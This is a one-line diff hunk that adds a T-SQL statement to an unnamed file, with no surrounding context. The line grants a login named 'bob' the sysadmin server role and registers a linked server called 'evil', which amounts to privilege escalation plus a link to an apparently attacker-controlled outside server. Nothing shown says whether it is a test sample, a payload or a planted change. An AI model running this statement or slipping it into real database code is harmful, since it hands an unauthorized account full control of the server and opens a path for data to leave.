@@ -1,0 +1,1 @@
+exec sp_addsrvrolemember 'bob', 'sysadmin'; exec sp_addlinkedserver 'evil'
